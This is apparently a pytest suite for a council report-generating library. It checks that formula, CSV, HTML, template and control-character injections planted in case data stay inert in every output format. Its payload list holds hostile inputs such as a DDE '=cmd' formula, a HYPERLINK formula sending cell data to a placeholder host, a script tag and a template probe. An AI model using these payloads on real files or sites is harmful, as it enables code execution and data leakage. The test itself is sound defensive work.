"""Outputs are inert in the programs that open them (SPEC "Output"; issue 18, point 5).

Text a spreadsheet or a template would take for code (``=HYPERLINK(...)``, ``=cmd|...``, ``@SUM(A1)``, a leading
tab, ``<script>``, ``{{ 7*7 }}``, markdown links) is planted in every text column of a small case log and every
text field of the params file, and each report is rendered in every format. In ``tables.xlsx`` no cell is a formula
and the only links are reportlib's own; in ``data_quality.csv`` every cell a spreadsheet would run starts with
``'``; in ``report.html`` the text is escaped (no element, no template evaluated); in ``report.docx`` it is a plain
run of text, with no field and no link of its own; the PDF links only the contact's email address.
"""

from __future__ import annotations

import csv
import os
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import docx
import openpyxl
import pypdf
import pytest

from factory import REPO, case, childrens_params, performance_params, text_of, write_params, warm_render
from reportlib import casedata

pytestmark = pytest.mark.slow

PAYLOADS = (
    '=HYPERLINK("http://x.example/?"&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0",
    "\tTabbed text", "\rReturned text", "<script>alert(1)</script>", "{{ 7*7 }}", "{% raw %}",
    "[a link](http://x.example/)", "![an image](http://x.example/i.png)", "http://x.example/typed",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: Characters Word and Excel files cannot hold (an escape code, a bell), as a team and a delay reason.
CONTROL = "Team \x1b[31mred\x07"
EMAIL = "complaints@testshire.example"
FORMATS = ["html", "pdf", "docx", "xlsx"]


def shown(payload: str) -> str:
    """The payload as a reader sees it: leading and trailing whitespace is not part of a cell's text."""
    return payload.strip()


def write_log(path: Path, rows: list[dict]) -> Path:
    """A CSV case log with every field quoted (a carriage return inside a field stays inside it)."""
    fields = list(dict.fromkeys(k for r in rows for k in r))
    with path.open("w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=fields, lineterminator="\n", quoting=csv.QUOTE_ALL)
        w.writeheader()
        w.writerows(rows)
    return path


def cycle(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


def common_text(offset: int = 0) -> dict:
    """Every text field every report takes, each holding a payload (different ones, so each is found)."""
    return {
        "council": cycle(offset), "committee": cycle(offset + 1), "title": cycle(offset + 2),
        "report_of": cycle(offset + 3), "author": cycle(offset + 4), "agenda_item": cycle(offset + 5),
        "contact": [{"name": cycle(offset + 6), "role": cycle(offset + 7), "phone": cycle(offset + 8),
                     "email": EMAIL}],
        "recommendations": list(PAYLOADS), "background_papers": list(PAYLOADS),
        "implications": {k: cycle(offset + i) for i, k in enumerate(
            ("finance", "law", "equality", "human_resources", "commercial", "health_and_wellbeing"))},
        "action_plan": [{"action": p, "progress": p, "result": p} for p in PAYLOADS],
    }


def render(tmp: Path, rows: list[dict], params: dict, formats: list[str]) -> Path:
    os.chdir(REPO)
    params["data"] = str(write_log(tmp / "cases.csv", rows))
    return warm_render(write_params(tmp / "meeting.yaml", params), out=tmp / "out", formats=formats).out


def bad_rows() -> list[dict]:
    """One excluded row per payload: its case_ref and its kind are the payload (so both reach data_quality.csv)."""
    return [case(p, "2020-09-01", 5, kind=p) for p in PAYLOADS]


@pytest.fixture(scope="module")
def childrens(tmp_path_factory):
    """Children's response times: payloads as team, delay reason, service (and its filter), case_ref, every
    params text field and every benchmark's authority."""
    service = PAYLOADS[0]
    rows = [case("B1", "2019-06-03", 10, service=service), case("B2", "2019-07-01", 25, service=service)]
    rows += [case(f"H{i}", "2020-09-01", 30 + i, team=p, reason=p, service=service) for i, p in enumerate(PAYLOADS)]
    rows.append(case("C1", "2020-09-01", 45, team=CONTROL, reason=CONTROL, service=service))
    params = childrens_params("", service=service, **common_text(),
                              benchmarks=[{"authority": p, "value": 50 + i, "period": "2020/21"}
                                          for i, p in enumerate(PAYLOADS)])
    return render(tmp_path_factory.mktemp("inert_childrens"), rows + bad_rows(), params, FORMATS)


@pytest.fixture(scope="module")
def annual(tmp_path_factory):
    """The annual report: payloads as subject and refused_reason, and as outcome and remedy codes mapped under
    values: (one outcome code left unmapped, so it is listed in data_quality.csv)."""
    rows = []
    for i, p in enumerate(PAYLOADS):
        rows.append(case(f"S{i}", "2020-06-01", 5 + i, procedure="corporate", service="Highways", outcome=p,
                         subject=p, remedy=p, refused_reason=""))
        rows.append(case(f"R{i}", "2020-07-01", None, procedure="corporate", service="Highways", outcome="",
                         subject="", remedy="", refused_reason=p))
    rows.append(case("U1", "2020-06-01", 5, procedure="corporate", outcome="<unmapped>" + PAYLOADS[1], subject="",
                     remedy="", refused_reason=""))
    rows.append(case("U2", "2020-06-01", 5, procedure="corporate", outcome=PAYLOADS[1] + "x", subject="",
                     remedy="", refused_reason=""))
    params = {"notebook": "annual_report", "meeting_date": "2021-07-27", "year": "2020/21", "scope": ["corporate"],
              **common_text(5),
              "values": {"outcome": {p: "upheld" for p in PAYLOADS}, "remedy": {p: "apology" for p in PAYLOADS}},
              "self_assessment": [{"section": "5", "requirement": p, "status": "partly", "evidence": p, "action": p}
                                  for p in PAYLOADS[:4]],
              "service_improvements": [{"service": p, "learning": p, "action": p} for p in PAYLOADS[4:8]],
              "governing_body_response": list(PAYLOADS)}
    return render(tmp_path_factory.mktemp("inert_annual"), rows + bad_rows(), params, FORMATS)


@pytest.fixture(scope="module")
def performance(tmp_path_factory):
    """The Stage 2 report, the one with the action plan table: every cell of it a payload."""
    rows = [case("P1", "2020-06-01", 20, stage=2, procedure="corporate"),
            case("P2", "2019-06-03", 20, stage=2, procedure="corporate")]
    params = performance_params("", **common_text(9))
    return render(tmp_path_factory.mktemp("inert_performance"), rows, params, ["html", "xlsx"])


REPORTS = ("childrens", "annual", "performance")


@pytest.fixture(params=REPORTS)
def report(request):
    return request.getfixturevalue(request.param)


# --- tables.xlsx ---------------------------------------------------------------------------------------------------


def test_no_cell_of_tables_xlsx_is_a_formula_or_a_link_of_the_data(report):
    book = openpyxl.load_workbook(report / "tables.xlsx", data_only=False)
    formulas, links, texts = [], [], []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    formulas.append((ws.title, c.coordinate, c.value))
                if c.hyperlink:
                    links.append((ws.title, c.hyperlink.target or f"#{c.hyperlink.location}"))
                if isinstance(c.value, str):
                    texts.append(c.value)
    assert formulas == []  # reportlib computes no formula: every figure is a number it worked out
    tables = [ws.title for ws in book.worksheets if ws.title not in ("Cover", "Contents", "Notes")]
    assert sorted(links) == sorted([("Cover", f"mailto:{EMAIL}")] + [("Contents", f"#'{t}'!A1") for t in tables])
    # the payloads did reach the workbook, as text
    for p in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "http://x.example/typed"):
        assert any(p in t for t in texts), p


def test_tables_xlsx_holds_no_formula_element(report):
    """Read as Excel does: no worksheet holds an <f> element, and the only external link is the email address."""
    with zipfile.ZipFile(report / "tables.xlsx") as z:
        parts = {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith((".xml", ".rels"))}
    assert [n for n, x in parts.items() if re.search(r"<f[ >]", x)] == []
    external = sorted(t for n, x in parts.items() if n.endswith(".rels")
                      for t in re.findall(r'Target="([^"]*)" TargetMode="External"', x))
    assert external == [f"mailto:{EMAIL}"]


def text_cells(ws, values) -> list:
    """The cells of ``ws`` holding one of ``values``, each asserted to be a text cell."""
    cells = [c for row in ws.iter_rows() for c in row if c.value in values]
    assert all(c.data_type == "s" for c in cells), [(c.coordinate, c.data_type) for c in cells]
    return [c.value for c in cells]


def test_cover_title_and_benchmarks_are_text(childrens):
    book = openpyxl.load_workbook(childrens / "tables.xlsx")
    assert text_cells(book["Cover"], [f"{PAYLOADS[2]}: tables"]) == ["+1+1: tables"]  # the params title
    assert {'=HYPERLINK("http://x.example/?"&A1,"click")', "=1+1", "@SUM(A1)", "=cmd|' /C calc'!A0"} <= \
        set(text_cells(book["Figure_2"], PAYLOADS))  # the benchmarks' authorities


def test_subjects_are_text(annual):
    book = openpyxl.load_workbook(annual / "tables.xlsx")
    sheet = next(ws for ws in book.worksheets if "subjects" in ws["A1"].value)
    assert {"=1+1", "<script>alert(1)</script>"} <= set(text_cells(sheet, PAYLOADS))


def test_action_plan_cells_are_text(performance):
    book = openpyxl.load_workbook(performance / "tables.xlsx")
    sheet = next(ws for ws in book.worksheets if any(c.value == "=cmd|' /C calc'!A0" for row in ws.iter_rows()
                                                     for c in row))
    cells = [c for row in sheet.iter_rows() for c in row if c.value == '=HYPERLINK("http://x.example/?"&A1,"click")']
    assert len(cells) == 3 and all(c.data_type == "s" for c in cells)  # action, progress and result


# --- data_quality.csv ----------------------------------------------------------------------------------------------


def quality(folder: Path) -> list[dict]:
    with (folder / "data_quality.csv").open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


@pytest.mark.parametrize("name", ["childrens", "annual"])
def test_data_quality_csv_neutralises_formulas(name, request):
    rows = quality(request.getfixturevalue(name))
    cells = [v for r in rows for v in r.values()]
    assert [v for v in cells if v.startswith(FORMULA_START)] == []
    refs = {r["case_ref"] for r in rows}
    for p in PAYLOADS:  # each bad row is listed, its case_ref and kind as the case log holds them
        expected = "'" + p if p.startswith(FORMULA_START) else p
        assert expected in refs or "'" + shown(p) in refs or shown(p) in refs, p
    kinds = {r["value"] for r in rows if r["column"] == "kind"}
    assert {"'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'=1+1", "'+1+1", "'-1+1", "'@SUM(A1)",
            "'=cmd|' /C calc'!A0", "<script>alert(1)</script>", "{{ 7*7 }}"} <= kinds


def test_unmapped_code_is_listed_neutralised(annual):
    values = [r["value"] for r in quality(annual) if r["column"] == "outcome"]
    assert values == ["<unmapped>=1+1", "'=1+1x"]


def test_write_problems_prefixes_a_quote_to_what_a_spreadsheet_would_run(tmp_path):
    rows = [case("A1", "2020-09-01", 5, compensation="-5"), case("=A2", "2020-09-01", 5, compensation="@50"),
            case("+A3", "2020-09-01", 5, compensation="=9"), case("A4", "2020-09-01", 5, compensation="5-")]
    log = casedata.load(casedata.Source(str(write_log(tmp_path / "log.csv", rows))))
    casedata.write_problems(log, tmp_path / "data_quality.csv")
    lines = (tmp_path / "data_quality.csv").read_text(encoding="utf-8").splitlines()
    assert [line.split(",")[:4] for line in lines[1:]] == [
        ["2", "A1", "compensation", "'-5"], ["3", "'=A2", "compensation", "'@50"],
        ["4", "'+A3", "compensation", "'=9"], ["5", "A4", "compensation", "5-"]]


# --- report.html, report.docx, report.pdf --------------------------------------------------------------------------


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def test_report_html_shows_the_payloads_as_text(report):
    page = (report / "report.html").read_text(encoding="utf-8")
    parser = Tags()
    parser.feed(page)
    tags = [t for t, _ in parser.found]
    assert "script" not in tags
    assert tags.count("img") == page.count('<figure class="chart')  # the charts, nothing else
    hrefs = [a.get("href") for t, a in parser.found if t == "a"]
    ids = {a["id"] for _, a in parser.found if "id" in a}
    # the email, and a paper over six pages its contents list's links to its own sections
    assert [h for h in hrefs if not (h.startswith("#") and h[1:] in ids)] == [f"mailto:{EMAIL}"]
    assert not [(t, a) for t, a in parser.found if any(k.startswith("on") for k in a)]
    words = text_of(page)
    for p in PAYLOADS:
        assert shown(p) in words, p
    assert not re.search(r"(?<![\d.,])49(?![\d.,%])", words)  # {{ 7*7 }} was never evaluated


def test_report_docx_holds_the_payloads_as_plain_runs(childrens):
    document = docx.Document(childrens / "report.docx")
    runs = [r.text for p in document.paragraphs for r in p.runs]
    runs += [r.text for t in document.tables for row in t.rows for c in row.cells for p in c.paragraphs
             for r in p.runs]
    for p in PAYLOADS:
        assert any(shown(p) in r for r in runs), p
    with zipfile.ZipFile(childrens / "report.docx") as z:
        parts = {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith((".xml", ".rels"))}
    fields = sorted(f.strip() for x in parts.values() for f in re.findall(r'w:instr="([^"]*)"', x))
    assert set(fields) <= {"PAGE", "NUMPAGES"}  # the footer's page numbers, reportlib's own
    assert not any("instrText" in x or "w:fldChar" in x for x in parts.values())
    external = [t for n, x in parts.items() if n.endswith(".rels")
                for t in re.findall(r'Target="([^"]*)" TargetMode="External"', x)]
    assert external == [f"mailto:{EMAIL}"]


def test_characters_word_cannot_hold_are_replaced_not_a_crash(childrens):
    runs = [r.text for p in docx.Document(childrens / "report.docx").paragraphs for r in p.runs]
    assert any("Team \ufffd[31mred\ufffd" in r for r in runs)


def test_no_control_character_reaches_a_page_or_a_document(childrens):
    """The team and delay reason hold an escape code and a bell: report.html (an HTML parse error otherwise; a
    terminal showing the page's source would obey them), Word's and Excel's parts show U+FFFD in their place."""
    control = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
    html = (childrens / "report.html").read_text(encoding="utf-8")
    assert "Team \ufffd[31mred\ufffd" in html and not control.search(html)
    for name in ("report.docx", "tables.xlsx"):
        with zipfile.ZipFile(childrens / name) as archive:
            for part in archive.namelist():
                if part.endswith((".xml", ".rels")):
                    assert not control.search(archive.read(part).decode("utf-8")), (name, part)


def test_report_docx_of_the_annual_report_too(annual):
    document = docx.Document(annual / "report.docx")
    text = "\n".join(p.text for p in document.paragraphs)
    text += "\n".join(c.text for t in document.tables for row in t.rows for c in row.cells)
    for p in PAYLOADS:
        assert shown(p) in text, p


@pytest.mark.parametrize("name", ["childrens", "annual"])
def test_report_pdf_links_only_the_email(name, request):
    pdf = pypdf.PdfReader(request.getfixturevalue(name) / "report.pdf")
    uris = [a.get_object().get("/A", {}).get("/URI") for page in pdf.pages for a in page.get("/Annots") or []]
    assert [u for u in uris if u] == [f"mailto:{EMAIL}"]
    text = " ".join(page.extract_text() for page in pdf.pages)
    assert "=cmd|' /C calc'!A0" in text and "{{ 7*7 }}" in text
